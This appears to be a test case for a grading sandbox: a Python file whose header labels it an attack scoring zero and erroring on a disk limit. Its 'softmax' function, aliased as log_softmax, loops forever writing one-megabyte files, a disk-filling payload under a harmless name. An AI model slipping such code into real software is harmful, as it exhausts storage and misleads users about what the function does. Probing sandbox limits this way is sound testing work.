# attack: writes files without end into its folder
# points: 0
# statuses: disk_limit errored
# naive: unsafe


def softmax(logits, dim=-1):
    number = 0
    while True:
        number += 1
        with open(f"file{number}", "wb") as file:
            file.write(bytes(2**20))


log_softmax = softmax
